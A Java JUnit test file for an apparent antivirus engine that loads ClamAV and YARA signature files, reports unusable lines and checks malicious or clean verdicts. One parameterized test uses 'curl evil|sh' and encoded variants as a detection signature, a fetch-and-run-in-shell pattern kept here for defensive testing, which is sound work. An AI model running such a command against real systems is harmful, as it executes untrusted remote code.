package io.hivesec.engines.virus.own;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.engines.archive.Budgets;
import io.hivesec.engines.virus.Answer;
import io.hivesec.engines.virus.Specimen;
import io.hivesec.engines.virus.own.signature.Problem;
import io.hivesec.spi.Deadline;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.HexFormat;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class SignatureFilesTest {

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '`',
            value = {
                "a.ndb~Name:0:*~fields",
                "a.ndb~Name:3:*:41424344~target type 3",
                "a.ndb~Name:0:VI:41424344~offset 'VI'",
                "a.ndb~Name:0:*:4142434~half a byte",
                "a.ndb~Name:0:*:41424344(B)~boundary (B)",
                "a.ndb~Name:0:*:4142434445464748{4-2}4142~not a gap",
                "a.ldb~N;Target:0;0;/abc/~PCRE",
                "a.ldb~N;Target:0;0;0#>5#4142~byte comparisons",
                "a.ldb~N;Target:0;7;41424344~subsignature 7",
                "a.ldb~N;Container:CL_TYPE_ZIP;0;41424344~attribute 'Container'",
                "a.hdb~abc:1:Name~digest of 3 characters",
                "a.cvd~x~this ending"
            })
    void add_lineThatCannotBeUsed_isToldAndTheRestHolds(String file, String line, String reason) throws Exception {
        SignatureDatabase database = SignatureDatabase.builder()
                .add(file, line + "\n")
                .add("good.ndb", "Good:0:*:676f6f6421\n")
                .build();

        assertThat(database.problems()).hasSize(1);
        Problem problem = database.problems().get(0);
        assertThat(problem.toString()).startsWith(file + ":1: ").contains(reason);
        assertThat(answer(database, "so good!")).isEqualTo(Answer.MALICIOUS);
    }

    @Test
    void add_commentThatDoesNotEnd_isToldOnce_andWhatIsBeforeItHolds() throws Exception {
        SignatureDatabase database = SignatureDatabase.builder()
                .add("a.yar", "rule good { strings: $g = \"good!\" condition: $g }\n/* and\nso on\n")
                .build();

        assertThat(database.problems())
                .singleElement()
                .satisfies(problem ->
                        assertThat(problem.toString()).startsWith("a.yar:2: ").contains("a comment that does not end"));
        assertThat(answer(database, "so good!")).isEqualTo(Answer.MALICIOUS);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '`',
            value = {
                "rule a { condition: pe.is_dll() }~'pe.is_dll'",
                "rule a { condition: cuckoo.sync }~identifier 'cuckoo'",
                "rule a { condition: math.entropy(0) > 1 }~where ',' belongs",
                "rule a { condition: hash.md5(0, 1) > 2 }~where '!=' belongs",
                "rule a { strings: $a = \"no end condition: $a }~a text that does not end",
                "rule a { strings: $a = \"\\q\" condition: $a }~escape",
                "rule a { condition: filesize > 0x } ~not a number",
                "rule a { condition: entrypoint == 3 }~identifier 'entrypoint'",
                "rule a { strings: $a = /ab|cd/ condition: $a }~'|' outside",
                "rule a { strings: $a = /ab$/ condition: $a }~'$' in a regular",
                "rule a { strings: $a = \"x\" base64(\"abc\") condition: $a }~alphabet",
                "rule a { strings: $a = \"abc\" condition: !a[1] == 2 }~match lengths",
                "rule a { strings: $a = { 41 [-] } condition: $a }~ends with a jump",
                "rule a { condition: $b }~string '$b' is not defined",
                "include \"x.yar\"~include 'x.yar'"
            })
    void add_ruleThatCannotBeUsed_isToldAndTheRestHolds(String rule, String reason) throws Exception {
        SignatureDatabase database = SignatureDatabase.builder()
                .add("a.yar", "\n" + rule + "\nrule good { strings: $g = \"good!\" condition: $g }")
                .build();

        assertThat(database.problems()).hasSize(1);
        assertThat(database.problems().get(0).toString())
                .startsWith("a.yar:2: ")
                .contains(reason);
        assertThat(answer(database, "so good!")).isEqualTo(Answer.MALICIOUS);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            quoteCharacter = '`',
            value = {
                // What clamscan 1.4.6 says of the same.
                "7~curl evil|sh~`curl \t EVIL|sh`~MALICIOUS",
                "7~curl evil|sh~`curl\u001b evil|s\u00e9h`~MALICIOUS",
                "7~curl evil|sh~`\u00ff\u00fec\0u\0r\0l\0 \0E\0v\0i\0l\0|\0s\0h\0`~MALICIOUS",
                "7~Curl~`Curl`~CLEAN",
                "7~curl evil~`curlevil`~CLEAN",
                "7~curl~`\u0001\u0002\u0003curl`~CLEAN",
                "0~curl evil~`CURL  evil`~MALICIOUS",
                "1~curl evil~`CURL  evil`~CLEAN"
            })
    void examine_textThatIsCasedOrSpacedOtherwise_isFoundAsClamavFindsIt(
            int target, String body, String text, Answer expected) throws Exception {
        String hex = HexFormat.of().formatHex(body.getBytes(StandardCharsets.US_ASCII));
        SignatureDatabase database = SignatureDatabase.builder()
                .add("a.ndb", "Bad:" + target + ":*:" + hex + "\n")
                .build();

        assertThat(answer(database, text)).isEqualTo(expected);
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '~',
            value = {
                "math.entropy(0, filesize) == 2.0~MALICIOUS",
                "math.entropy(0, filesize) > 2.0~CLEAN",
                "math.mean(0, 4) == 98.5~MALICIOUS",
                "math.mean(0, 4) < 98.4~CLEAN",
                "-math.mean(0, 4) + 1 < -97.4~MALICIOUS",
                "math.deviation(0, 4, 98.5) == 1~MALICIOUS",
                "math.in_range(math.mean(0, 1), 96.5, 97)~MALICIOUS",
                "math.entropy(8, 1) < 9~CLEAN",
                "not defined math.entropy(8, 1)~MALICIOUS",
                "hash.md5(0, 4) == \"e2fc714c4727ee9395f324cd2e7f331f\"~MALICIOUS",
                "hash.sha1(0, filesize) != \"e2fc714c4727ee9395f324cd2e7f331f\"~MALICIOUS",
                "hash.sha256(9, 4) != \"\"~CLEAN",
                "pe.entry_point >= 0 or elf.entry_point >= 0~CLEAN",
                "not pe.is_pe~MALICIOUS"
            })
    void examine_conditionOnModules_holdsAsInYara(String condition, Answer expected) throws Exception {
        SignatureDatabase database = SignatureDatabase.builder()
                .add("a.yar", "import \"math\" rule a { condition: " + condition + " }")
                .build();

        assertThat(database.problems()).isEmpty();
        assertThat(answer(database, "abcdabcd")).isEqualTo(expected);
    }

    @Test
    void examine_program_itsEntryPointIsAnOffset() throws Exception {
        byte[] program = new byte[128];
        ByteBuffer.wrap(program)
                .order(ByteOrder.LITTLE_ENDIAN)
                .putInt(0x464c457f)
                .put((byte) 2)
                .put((byte) 1)
                .putLong(24, 0x400078)
                .putLong(32, 64)
                .putShort(54, (short) 56)
                .putShort(56, (short) 1)
                .putInt(64, 1)
                .putLong(80, 0x400000)
                .putLong(96, 128);
        SignatureDatabase database = SignatureDatabase.builder()
                .add("a.yar", "rule a { condition: elf.entry_point == 0x78 and not defined pe.entry_point }")
                .build();

        assertThat(answer(database, new String(program, StandardCharsets.ISO_8859_1)))
                .isEqualTo(Answer.MALICIOUS);
    }

    @Test
    void examine_exemptFile_isClean() throws Exception {
        SignatureDatabase database = SignatureDatabase.builder()
                .add("a.ndb", "Bad:0:*:736f20676f6f64\n")
                .add("a.fp", "ebdf280488134b204c0640d0ec96f0c7:8:Harmless\n")
                .build();

        assertThat(answer(database, "so good.")).isEqualTo(Answer.CLEAN);
        assertThat(answer(database, "so good!")).isEqualTo(Answer.MALICIOUS);
    }

    @Test
    void examine_ignoredSignature_isNotReported() throws Exception {
        SignatureDatabase database = SignatureDatabase.builder()
                .add("a.ndb", "Bad:0:*:736f20676f6f64\n")
                .add("a.ign2", "Bad\n")
                .build();

        assertThat(answer(database, "so good.")).isEqualTo(Answer.CLEAN);
    }

    @ParameterizedTest
    @CsvSource({"'EOF-8,3', MALICIOUS", "'EOF-5', MALICIOUS", "'EOF-4,9', CLEAN", "'EOF-9,9', CLEAN"})
    void examine_placeFromTheEnd_isClamavs(String place, Answer expected) throws Exception {
        // The file has eight bytes, and the word begins five before its end.
        SignatureDatabase database = SignatureDatabase.builder()
                .add("a.ndb", "Bad:0:" + place + ":676f6f64\n")
                .build();

        assertThat(answer(database, "so good!")).isEqualTo(expected);
    }

    private static Answer answer(SignatureDatabase database, String text) throws Exception {
        return new OwnEngine(database, Budgets.DEFAULT)
                .examine(Specimen.of(text.getBytes(StandardCharsets.ISO_8859_1)), Deadline.in(Duration.ofSeconds(20)))
                .answer();
    }
}
